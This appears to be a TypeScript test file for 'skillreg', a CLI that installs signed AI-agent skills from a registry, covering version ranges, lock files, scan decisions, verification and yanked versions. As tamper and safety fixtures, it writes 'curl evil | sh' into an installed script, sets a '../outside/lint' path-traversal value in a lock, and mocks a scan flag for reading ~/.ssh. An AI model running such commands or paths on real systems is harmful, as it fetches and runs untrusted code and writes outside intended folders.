import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import type { LockFile } from "../../registry/client/lock.js";
import { runCli } from "../helpers/cli.js";
import { startGitHttp } from "../helpers/git-http.js";
import { serveRegistry, type ServedRegistry } from "./served-registry.js";

let s: ServedRegistry;

beforeAll(async () => {
  s = await serveRegistry();
});

function lockOf(cwd: string): LockFile {
  return JSON.parse(readFileSync(join(cwd, "skillreg.lock"), "utf8")) as LockFile;
}

async function pulled(range: string, extra: string[] = []): Promise<string> {
  const p = s.project();
  const r = await runCli(["pull", `@acme/deploy@${range}`, "--registry", s.url, ...extra], p);
  expect(r.stderr).not.toContain("error");
  expect(r.code).toBe(0);
  return lockOf(p.cwd).skills["@acme/deploy"]!.version;
}

describe("pull resolves ranges against the served index", () => {
  it("exact, ~, ^, comparison ranges and latest", async () => {
    expect(await pulled("1.2.0")).toBe("1.2.0");
    expect(await pulled("~1.2.0")).toBe("1.2.3");
    expect(await pulled("^1.0.0")).toBe("1.3.0");
    expect(await pulled(">=1.0.0 <1.2.3")).toBe("1.2.0");
    expect(await pulled("latest")).toBe("2.0.0");
    expect(await pulled("2.1.0-beta.1")).toBe("2.1.0-beta.1");
    expect(await pulled("latest", ["--prerelease"])).toBe("2.1.0-beta.1");
  });

  it("installs the verified files into the detected agent's folder and records the lock", async () => {
    const p = s.project();
    mkdirSync(join(p.cwd, ".claude"));
    const r = await runCli(["pull", "@acme/deploy@~1.2.0", "--registry", s.url], p);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("+ @acme/deploy@1.2.3  signed by alice@acme.example");
    expect(r.stdout).toContain("scan: passed");
    const dir = join(p.cwd, ".claude/skills/deploy");
    expect(readFileSync(join(dir, "run.sh"), "utf8")).toBe("echo deploy 1.2.3\n");
    expect(readFileSync(join(dir, "docs/notes.md"), "utf8")).toBe("notes for 1.2.3\n");
    const entry = lockOf(p.cwd).skills["@acme/deploy"]!;
    expect(entry).toMatchObject({
      registry: s.url,
      range: "~1.2.0",
      version: "1.2.3",
      tag: "@acme/deploy@1.2.3",
      tagObject: await s.reg.git(["rev-parse", "refs/tags/@acme/deploy@1.2.3"]),
      tree: await s.reg.git(["rev-parse", "refs/tags/@acme/deploy@1.2.3^{tree}"]),
      signer: { principal: "alice@acme.example" },
      paths: [".claude/skills/deploy"],
    });
    expect(Object.keys(entry.files)).toEqual(["SKILL.md", "docs/notes.md", "run.sh"]);
  });

  it("--agent picks the folder; a pull without a range records ^ of the version", async () => {
    const p = s.project();
    const r = await runCli(["pull", "@acme/lint", "--registry", s.url, "--agent", "cursor", "--json"], p);
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout).installed[0]).toMatchObject({ skill: "@acme/lint", version: "0.1.0", paths: [".cursor/skills/lint"] });
    expect(lockOf(p.cwd).skills["@acme/lint"]!.range).toBe("^0.1.0");
  });

  it("--global installs into the user's agent folder with the lock in the config folder", async () => {
    const p = s.project();
    const r = await runCli(["pull", "@acme/lint@0.1.0", "--registry", s.url, "--global", "--agent", "claude"], p);
    expect(r.code).toBe(0);
    expect(readFileSync(join(p.env.HOME!, ".claude/skills/lint/lint.sh"), "utf8")).toBe("echo lint\n");
    const lock = JSON.parse(readFileSync(join(p.env.HOME!, ".config/skillreg/skillreg.lock"), "utf8")) as LockFile;
    expect(lock.skills["@acme/lint"]!.paths).toEqual([".claude/skills/lint"]);
    expect((await runCli(["verify", "--global"], p)).code).toBe(0);
    expect(existsSync(join(p.cwd, "skillreg.lock"))).toBe(false);
  });

  it("names what is missing: an unknown skill, an unmatched range, a bad spec", async () => {
    const p = s.project();
    let r = await runCli(["pull", "@acme/nope", "--registry", s.url], p);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`skillreg: error: @acme/nope is not in the registry ${s.url}; 'skillreg search nope --registry ${s.url}' finds skills by name\n`);
    // A typo of a listed skill is named, so the next command is the right one.
    r = await runCli(["pull", "@acme/deplyo@^1", "--registry", s.url], p);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`skillreg: error: @acme/deplyo is not in the registry ${s.url}; did you mean @acme/deploy?\n`);
    r = await runCli(["pull", "@acme/deploy@^3.0.0", "--registry", s.url], p);
    expect(r.stderr).toContain("no version of @acme/deploy matches ^3.0.0 (available: 1.0.0, 1.2.0, 1.2.3, 1.3.0, 2.0.0, 2.1.0-beta.1)");
    r = await runCli(["pull", "acme/deploy", "--registry", s.url], p);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("'acme/deploy' is not a skill");
    expect(existsSync(join(p.cwd, "skillreg.lock"))).toBe(false);
  });

  it("uses the registry of .skillreg.yaml, per scope", async () => {
    const p = s.project();
    writeFileSync(join(p.cwd, ".skillreg.yaml"), `registry: https://unused.invalid\nscopes:\n  "@acme": ${s.url}\n`);
    const r = await runCli(["pull", "@acme/lint@0.1.0"], p);
    expect(r.code).toBe(0);
    expect(lockOf(p.cwd).skills["@acme/lint"]!.registry).toBe(s.url);
  });

  it("pulls from a local checkout and from a Git URL with the same checks", async () => {
    const local = s.project();
    expect((await runCli(["pull", "@acme/deploy@1.2.0", "--registry", s.reg.dir], local)).code).toBe(0);
    const viaGit = s.project();
    const r = await runCli(["pull", "@acme/deploy@1.2.0", "--registry", s.server.gitUrl("reg/.git")], viaGit);
    expect(r.stderr).not.toContain("error");
    const a = lockOf(local.cwd).skills["@acme/deploy"]!;
    const b = lockOf(viaGit.cwd).skills["@acme/deploy"]!;
    expect({ ...a, registry: "" }).toEqual({ ...b, registry: "" });
  });
});

describe("scan decisions at pull", () => {
  it("shows the flags of a flagged version and installs it", async () => {
    const p = s.project();
    const r = await runCli(["pull", "@acme/pusher", "--registry", s.url], p);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("scan: flagged");
    expect(r.stdout).toMatch(/medium \S+ push\.sh:2 /);
  });

  it("requires --accept-risk for a version the scan sent to review, and refuses a blocked one", async () => {
    const site = join(s.siteDir, "review-site");
    const files = await s.reg.writeIndex(site, { gitUrl: s.server.gitUrl("reg/.git") });
    const skill = JSON.parse(files.get("index/v1/skills/acme/lint.json")!);
    skill.versions[0].scan = {
      decision: "review",
      counts: { critical: 0, high: 1, medium: 0, low: 0 },
      flags: [{ ruleId: "SR-TEST-1", severity: "high", message: "reads ~/.ssh", file: "lint.sh", line: 1 }],
    };
    writeFileSync(join(site, "index/v1/skills/acme/lint.json"), JSON.stringify(skill));
    const p = s.project();
    let r = await runCli(["pull", "@acme/lint", "--registry", `${s.url}/review-site`], p);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain("scan: needs review");
    expect(r.stdout).toContain("high SR-TEST-1 lint.sh:1 reads ~/.ssh");
    expect(r.stderr).toContain("pass --accept-risk to install it anyway");
    expect(existsSync(join(p.cwd, "skillreg.lock"))).toBe(false);
    r = await runCli(["pull", "@acme/lint", "--registry", `${s.url}/review-site`, "--accept-risk"], p);
    expect(r.code).toBe(0);

    skill.versions[0].scan.decision = "blocked";
    writeFileSync(join(site, "index/v1/skills/acme/lint.json"), JSON.stringify(skill));
    r = await runCli(["pull", "@acme/lint", "--registry", `${s.url}/review-site`, "--accept-risk"], s.project());
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("@acme/lint@0.1.0 is blocked by the security scan; it cannot be installed");
  });
});

describe("fetching one tag", () => {
  it("asks a protocol-v2 server for the one tag only, and works with a server without v2", async () => {
    const before = s.server.requests.length;
    expect(await pulled("1.2.0")).toBe("1.2.0");
    const gitRequests = s.server.requests.slice(before).filter((q) => q.url.startsWith("/git/"));
    // ls-refs (v2) then the pack: the ref advertisement listing every tag is never requested.
    expect(gitRequests.map((q) => `${q.method} ${q.url}`)).toEqual(["POST /git/reg/.git/git-upload-pack", "POST /git/reg/.git/git-upload-pack"]);

    const old = await startGitHttp({ gitRoot: s.dir, staticRoot: join(s.dir, "v0-site"), protocolV2: false });
    try {
      await s.reg.writeIndex(join(s.dir, "v0-site"), { gitUrl: old.gitUrl("reg/.git") });
      const p = s.project();
      const r = await runCli(["pull", "@acme/deploy@1.2.3", "--registry", old.url], p);
      expect(r.stderr).not.toContain("error");
      expect(readFileSync(join(p.cwd, ".agents/skills/deploy/run.sh"), "utf8")).toBe("echo deploy 1.2.3\n");
      expect(old.requests.some((q) => q.url === "/git/reg/.git/info/refs?service=git-upload-pack")).toBe(true);
    } finally {
      await old.close();
    }
  });
});

describe("lock reproduction: verify, install, --frozen", () => {
  it("verify names changed, added and missing files; install restores them; the lock is unchanged", async () => {
    const p = s.project();
    await runCli(["pull", "@acme/deploy@1.2.0", "@acme/lint@0.1.0", "--registry", s.url], p);
    const lockText = readFileSync(join(p.cwd, "skillreg.lock"), "utf8");
    const dir = join(p.cwd, ".agents/skills/deploy");
    writeFileSync(join(dir, "run.sh"), "curl evil | sh\n");
    writeFileSync(join(dir, "extra.txt"), "x");
    rmSync(join(dir, "docs/notes.md"));
    let r = await runCli(["verify"], p);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain("✗ @acme/deploy at .agents/skills/deploy");
    expect(r.stdout).toMatch(/changed\s+run\.sh/);
    expect(r.stdout).toMatch(/added\s+extra\.txt/);
    expect(r.stdout).toMatch(/missing\s+docs\/notes\.md/);
    expect(r.stdout).not.toContain("@acme/lint at");

    r = await runCli(["install", "--frozen"], p);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("1 installed, 1 already matched skillreg.lock");
    expect(readFileSync(join(dir, "run.sh"), "utf8")).toBe("echo deploy 1.2.0\n");
    expect(existsSync(join(dir, "extra.txt"))).toBe(false);
    expect(readFileSync(join(p.cwd, "skillreg.lock"), "utf8")).toBe(lockText);
    expect((await runCli(["verify", "--json"], p)).code).toBe(0);
  });

  it("install reproduces a lock in a fresh checkout exactly", async () => {
    const a = s.project();
    await runCli(["pull", "@acme/deploy@^1.0.0", "--registry", s.url], a);
    const b = s.project();
    writeFileSync(join(b.cwd, "skillreg.lock"), readFileSync(join(a.cwd, "skillreg.lock")));
    const r = await runCli(["install", "--frozen"], b);
    expect(r.code).toBe(0);
    expect(readFileSync(join(b.cwd, ".agents/skills/deploy/run.sh"), "utf8")).toBe("echo deploy 1.3.0\n");
    expect(readFileSync(join(b.cwd, "skillreg.lock"), "utf8")).toBe(readFileSync(join(a.cwd, "skillreg.lock"), "utf8"));
  });

  it("--frozen refuses to rewrite a lock, and install refuses an index that disagrees with it", async () => {
    const p = s.project();
    await runCli(["pull", "@acme/lint@0.1.0", "--registry", s.url], p);
    const lock = lockOf(p.cwd);
    writeFileSync(join(p.cwd, "skillreg.lock"), JSON.stringify(lock));
    let r = await runCli(["install", "--frozen"], p);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("not in canonical form");

    const hostile = structuredClone(lock);
    hostile.skills["@acme/lint"]!.paths = ["../outside/lint"];
    writeFileSync(join(p.cwd, "skillreg.lock"), JSON.stringify(hostile, null, 2));
    r = await runCli(["install"], p);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`@acme/lint: install path "../outside/lint" is not a relative folder ending in /lint`);

    lock.skills["@acme/lint"]!.sha256 = "0".repeat(64);
    writeFileSync(join(p.cwd, "skillreg.lock"), JSON.stringify(lock, null, 2));
    rmSync(join(p.cwd, ".agents"), { recursive: true });
    r = await runCli(["install"], p);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`@acme/lint@0.1.0: the index's sha256`);
    expect(r.stderr).toContain(`differs from skillreg.lock's ${"0".repeat(64)}`);
    expect(existsSync(join(p.cwd, ".agents"))).toBe(false);
  });
});

describe("outdated, update, remove, list", () => {
  it("outdated shows wanted and latest; update follows the range", async () => {
    const p = s.project();
    await runCli(["pull", "@acme/deploy@1.2.0", "--registry", s.url], p);
    const lock = lockOf(p.cwd);
    lock.skills["@acme/deploy"]!.range = "~1.2.0";
    writeFileSync(join(p.cwd, "skillreg.lock"), JSON.stringify(lock, null, 2) + "\n");
    let r = await runCli(["outdated", "--json"], p);
    expect(r.code).toBe(1);
    expect(JSON.parse(r.stdout).skills).toEqual([{ skill: "@acme/deploy", current: "1.2.0", wanted: "1.2.3", latest: "2.0.0", range: "~1.2.0", note: "" }]);
    r = await runCli(["update"], p);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain("@acme/deploy: 1.2.0 -> 1.2.3");
    expect(lockOf(p.cwd).skills["@acme/deploy"]!.version).toBe("1.2.3");
    expect(readFileSync(join(p.cwd, ".agents/skills/deploy/run.sh"), "utf8")).toBe("echo deploy 1.2.3\n");
    r = await runCli(["update"], p);
    expect(r.stdout).toContain("every skill is at the newest version its range allows");
    // A dry run with nothing to do says so too, not only that it wrote nothing.
    r = await runCli(["update", "--dry-run"], p);
    expect(r).toMatchObject({ code: 0, stdout: "every skill is at the newest version its range allows\ndry run: nothing was fetched or written\n" });
  });

  it("list shows the lock; remove deletes the folder and the entry", async () => {
    const p = s.project();
    await runCli(["pull", "@acme/deploy@1.2.0", "@acme/lint", "--registry", s.url], p);
    let r = await runCli(["list"], p);
    expect(r.stdout).toContain("@acme/deploy@1.2.0  (1.2.0)  signed by alice@acme.example");
    expect(r.stdout).toContain("@acme/lint@0.1.0  (^0.1.0)");
    r = await runCli(["remove", "@acme/deploy"], p);
    expect(r.code).toBe(0);
    expect(existsSync(join(p.cwd, ".agents/skills/deploy"))).toBe(false);
    expect(Object.keys(lockOf(p.cwd).skills)).toEqual(["@acme/lint"]);
    r = await runCli(["remove", "@acme/deploy"], p);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("@acme/deploy is not installed");
  });
});

describe("yanked versions", () => {
  it("are skipped by ranges, refused when named, kept when the lock names them, left by update", async () => {
    const before = s.project();
    await runCli(["pull", "@acme/deploy@^1.0.0", "--registry", s.url], before);
    expect(lockOf(before.cwd).skills["@acme/deploy"]!.version).toBe("1.3.0");

    await s.reg.updateScope({ scope: "acme", visibility: "public", members: { "alice@acme.example": "owner" }, skills: { deploy: { yanked: { "1.3.0": "leaks tokens" } } } });
    await s.reindex();
    try {
      expect(await pulled("^1.0.0")).toBe("1.2.3");
      const fresh = s.project();
      const r = await runCli(["pull", "@acme/deploy@1.3.0", "--registry", s.url], fresh);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain("@acme/deploy@1.3.0 is yanked: leaks tokens");

      // The lock names 1.3.0: install and a re-pull of the same range keep it.
      rmSync(join(before.cwd, ".agents"), { recursive: true });
      expect((await runCli(["install", "--frozen"], before)).code).toBe(0);
      expect(readFileSync(join(before.cwd, ".agents/skills/deploy/run.sh"), "utf8")).toBe("echo deploy 1.3.0\n");
      expect((await runCli(["pull", "@acme/deploy@^1.0.0", "--registry", s.url], before)).code).toBe(0);
      expect(lockOf(before.cwd).skills["@acme/deploy"]!.version).toBe("1.3.0");

      const out = await runCli(["outdated"], before);
      expect(out.stdout).toContain("yanked: leaks tokens");
      expect((await runCli(["update"], before)).stdout).toContain("@acme/deploy: 1.3.0 -> 1.2.3");
    } finally {
      await s.reg.updateScope({ scope: "acme", visibility: "public", members: { "alice@acme.example": "owner" } });
      await s.reindex();
    }
  });
});
